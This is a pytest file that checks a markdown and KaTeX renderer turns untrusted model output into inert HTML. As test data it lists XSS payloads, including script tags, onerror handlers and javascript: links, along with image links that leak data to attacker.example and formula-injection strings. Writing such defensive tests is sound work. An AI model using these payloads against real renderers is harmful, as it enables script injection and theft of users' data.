"""Model output is untrusted: rendering it must never run script or fetch anything by itself."""

from __future__ import annotations

import re

import pytest

from app.ui.markdown import CODE_STYLE, is_safe_url, render_markdown

HOSTILE = {
    "script tag": "<script>alert(1)</script>",
    "img onerror": '<img src="x" onerror="alert(1)">',
    "svg onload": "<svg onload=alert(1)><circle/></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "inline javascript link": "[click me](javascript:alert(1))",
    "reference javascript link": "[click me][x]\n\n[x]: javascript:alert(1)",
    "entity-encoded javascript link": "[click me](&#106;avascript:alert(1))",
    "tab-split javascript link": "[click me](java\tscript:alert(1))",
    "data html link": "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[click me](vbscript:msgbox(1))",
    "autolink javascript": "<javascript:alert(1)>",
    "raw anchor": '<a href="javascript:alert(1)">x</a>',
    "style tag": "<style>body{display:none}</style>",
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_renders_inert(source):
    html = render_markdown(source)

    tags = re.findall(r"<\s*([a-zA-Z0-9]+)", html)
    assert set(tags) <= {"p", "a", "span", "br"}, html
    assert not re.search(r"<[^>]+\son\w+\s*=", html), "no event-handler attribute on any tag"
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith(("http://", "https://", "mailto:", "#")), href


@pytest.mark.parametrize(
    "source",
    [
        "![secret](https://attacker.example/leak?q=history)",
        '![x](https://attacker.example/p.png "title")',
        "![ref][img]\n\n[img]: https://attacker.example/r.png",
    ],
)
def test_markdown_images_become_links_that_load_nothing(source):
    html = render_markdown(source)

    assert "<img" not in html
    assert 'class="md-image-link" href="https://attacker.example/' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_an_image_with_an_unsafe_source_is_plain_text():
    html = render_markdown("![pic](javascript:alert(1))")

    assert "<a" not in html and "<img" not in html


def test_links_open_in_a_new_tab_without_a_referrer():
    html = render_markdown("[docs](https://example.com/docs)")

    assert html.strip() == (
        '<p><a href="https://example.com/docs" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>'
    )


def test_code_blocks_are_highlighted_and_escaped_under_a_header_naming_their_language():
    html = render_markdown("```python\nprint('<b>hi</b>')\n```")

    assert html.startswith(
        '<div class="code-block" data-lang="python"><div class="code-head"><span class="code-lang">python</span></div>'
        '<pre tabindex="0"><code class="language-python">'
    )
    assert "&lt;b&gt;" in html and "<b>" not in html
    assert '<span class="nb">print</span>' in html


@pytest.mark.parametrize("info", ['"><script>alert(1)</script>', 'a"onload="alert(1)', "x" * 200, ""])
def test_a_strange_fence_language_is_labelled_text_and_changes_no_markup(info):
    html = render_markdown(f"```{info}\n<i>code</i>\n```")

    assert html.startswith('<div class="code-block" data-lang="text">'), html
    assert "<script" not in html and "onload" not in html and "<i>" not in html


def test_dark_mode_has_a_dark_code_palette_of_its_own():
    dark = CODE_STYLE[CODE_STYLE.index(".body--dark .md-body pre") :]

    assert ".body--dark .md-body pre .k" in dark
    assert "background: #0d1117" in dark or "background-color: #0d1117" in dark


def test_tables_render_inside_a_box_that_scrolls_sideways():
    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |")

    assert html.startswith('<div class="table-scroll" tabindex="0"><table>') and "<td>1</td>" in html


def test_an_open_code_fence_while_streaming_still_renders_as_code():
    assert '<pre tabindex="0"><code class="language-js">' in render_markdown("```js\nconst x = 1")


def test_task_lists_render_as_disabled_checkboxes_and_nested_lists_stay_nested():
    html = render_markdown("1. first\n   - inner\n     - deeper\n2. second\n\n- [ ] to do\n- [x] done\n\n> quoted")

    assert html.count("<ol>") == 1 and html.count("<ul>") == 2
    assert '<label><input class="task-list-item-checkbox" disabled="disabled" type="checkbox"> to do</label>' in html
    assert 'checked="checked" disabled="disabled"' in html
    assert "<blockquote>" in html


@pytest.mark.parametrize(
    "source,display",
    [
        ("Euler: $e^{i\\pi} = -1$", False),
        ("\\(a^2\\)", False),
        ("so \\[ x^2 \\] there", False),
        ("$$\n\\sum_i x_i\n$$", True),
        ("\\[\nx\n\\]", True),
    ],
)
def test_formulas_are_typeset_by_katex_in_each_notation(source, display):
    html = render_markdown(source)

    assert '<span class="katex">' in html and "<math" in html, html
    assert ('<div class="math-display" tabindex="0">' in html) is display


@pytest.mark.parametrize("source", ["It costs $5 and $10 today.", "$ x $ is not math", "100$ and 200$"])
def test_dollars_that_are_money_stay_text(source):
    assert "katex" not in render_markdown(source)


@pytest.mark.parametrize("source", ["$\\frac{1}{$", "$$\n\\begin{matrix} a &\n", "$x^$", "\\(\\sqrt{\\)"])
def test_a_formula_being_written_shows_as_its_text_never_as_an_error(source):
    html = render_markdown(source)

    assert "katex-error" not in html and "#cc0000" not in html
    assert "math-source" in html or "katex" not in html, html


HOSTILE_MATH = {
    "href": "$\\href{javascript:alert(1)}{click}$",
    "url": "$\\url{javascript:alert(1)}$",
    "html style": "$\\htmlStyle{background:url(https://attacker.example/x)}{x}$",
    "html data": "$\\htmlData{onload=alert(1)}{x}$",
    "include graphics": "$\\includegraphics{https://attacker.example/x.png}$",
    "colour injection": "$\\color{red;background:url(https://attacker.example)}{x}$",
    "markup in text": "$\\text{<img src=x onerror=alert(1)>}$",
    "expansion bomb": "$\\def\\a{\\a\\a}\\a$",
    "huge": "$" + "x^" * 3000 + "x$",
}


@pytest.mark.parametrize("source", HOSTILE_MATH.values(), ids=HOSTILE_MATH.keys())
def test_hostile_formulas_yield_only_katex_markup(source):
    html = render_markdown(source)

    assert not re.search(r"<\s*(script|img|iframe|a|svg|style|foreignObject)\b", html, re.I), html
    assert not re.search(r"<[^>]+\son\w+\s*=", html), "no event-handler attribute on any tag"
    for value in re.findall(r'\s[\w:-]+="([^"]*)"', html):
        assert "url(" not in value and "javascript:" not in value and "attacker" not in value, value


@pytest.mark.parametrize(
    "url,safe",
    [
        ("https://a.b", True),
        ("mailto:x@y.z", True),
        ("#top", True),
        ("JAVASCRIPT:alert(1)", False),
        (" \x01javascript:x", False),
        ("data:image/png;base64,AA", False),
        ("file:///etc/passwd", False),
        ("/relative/path", False),
    ],
)
def test_only_web_and_mail_links_are_safe(url, safe):
    assert is_safe_url(url) is safe


def test_a_formula_with_emoji_the_engine_cannot_encode_is_shown_as_its_text():
    # Found by the property test: KaTeX's engine returned invalid UTF-8 for this, which ended the render.
    source = "\\[r]: https://x.y\n👨\u200d👩\u200d👧aa{    a\\]"
    assert "math-source" in render_markdown(source)
